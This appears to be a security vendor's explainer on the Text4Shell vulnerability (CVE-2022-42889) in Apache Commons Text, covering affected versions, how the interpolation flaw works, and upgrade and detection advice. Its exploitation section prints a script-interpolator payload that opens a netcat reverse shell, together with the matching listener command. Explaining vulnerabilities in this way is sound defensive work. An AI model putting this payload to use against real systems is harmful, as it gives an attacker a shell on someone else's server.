Text4Shell CVE (CVE-2022-42889): Impact and Fixes

Apache Commons Text is a popular open source library that manipulates strings. A new vulnerability was discovered that could lead to remote code execution (RCE).

February 12, 2023

Apache Commons Text is a library focused on working with string algorithms. On October 13, 2022, a new vulnerability, CVE-2022-42889, that could lead to remote code execution (RCE) was disclosed.

Security researcher Alvaro Muoz, who first reported the vulnerability, said the library’s default interpolators (specifically the StringSubstitutor class) made script evaluation insecure, meaning that using a library in its default configuration can lead to the execution of unwanted malicious code.

Because the library is widely used by the public, this new RCE flaw poses a threat to many organizations around the world. CVE-2022-42889 has a severity of 9.8 on the CVSS scale, indicating it is a very serious threat.This is part of a series of articles about supply chain security

In this article:

Who Is Impacted By Text4Shell?

Applications that use or depend on the Apache Commons Text library are affected—but not all applications. In addition to having a vulnerable version of Apache Commons Text, the application code must have a certain vulnerable pattern.

Text4Shell can only be exploited if the target system is running certain default interpolators in versions 1.5-1.9 (inclusive) of Apache Commons Text. String interpolation is the practice of mixing strings and integers to build new strings, and is a common threat vector in applications.

The Text4Shell vulnerability only occurs if the application imports org.apache.commons.text.StringSubstitutorand uses one these default interpolators:

  • script—evalutes expressions using JVM script execution engine (javax.script).
  • dns—resolves DNS records
  • url—used to request information from a URL

How Text4Shell Vulnerability Works

Apache Commons Text is an open source library for performing various text manipulations. The Apache Software Foundation (ASF) describes this library as providing additional functionality for text processingin the standard Java Development Kit (JDK).

The security flaw affects Apache Commons Text versions 1.5 through 1.9. A PoC for CVE-2022-42889 has been published, but thereare no known cases of the vulnerability being exploited.

The Apache Software Foundation released an Apache Commons Text released a security advisory detailing how to fix the threat. According to the bulletin, CVE-2022-42889 is the result of a variable interpolation process performed by the library. In library versions 1.5 through 1.9, the default set of lookup instances (e.g. “script”, “dns”, “url”) contain interpolators that can cause remote code execution

Cybersecurity researchers added that users running Java 15 or later can avoid the risk because script interpolation is not applied, but the vulnerability could still be exploited through other vectors such as DNS or malicious URLs.

How to Exploit CVE-2022-42889

The exploitable component was placed in a Docker container and made available to an EC2 instance under the hacker’s control to reproduce the attack.

Additionally, the netcat (nc) program allows us to establish a reverse shell communication with the susceptible software. The susceptible web app provides access to a search API, and the StringSubstitutorlibrary from Commons Text is used to interpolate the query:


The following payload is one possible exploit for this vulnerability, which would result in a reverse shell being opened:

${script:javascript:java.lang.Runtime.getRuntime().exec('nc 9090 -e /bin/sh')}

The above payload consists of ${prefix:name} that activates String searching. As stated previously, script, dns, and url can be employed as the prefix to attack the sensitivity. Before executing the constructed request, we must establish the reverse shell link by listening on port 9090 with the netcat (nc) command.nc -nlvp 9090

We can now submit the constructed request with the payload URL encoded, as demonstrated below. It results in the attacker being able to establish a link to the vulnerable software.

Since this vulnerability has been exploited, the attacker can now gain root access to the vulnerable system and install malicious software.

Text4Shell Mitigation Recommendations

If you are using a vulnerable version of Apache Commons Text (1.5-1.9), the first step is to upgrade the library to a patched version (1.10 or later).

Like the previous CVE-2022-22963 vulnerability, this new vulnerability can be detected in three phases of the application lifecycle.

  • In the build process using a software composition analysis (SCA) tool.
  • In the deployment process using an image scanner on the Kubernetes admission controller.
  • During runtime—using a runtime discovery engine like Aqua.

Connect your repository to Aqua Cloud Native Security Platform to detect this vulnerability in your environment. This will automatically map your dependencies and identify any vulnerable dependencies your project uses.

You can also identify and block all workloads and have this vulnerability, or prevent their execution,using Aqua’s assurance policies feature. Aqua provides a vulnerability scanner you can include as part of your CI/CD pipeline,which automatically identifies andblocks new builds with Text4Shell vulnerabilities.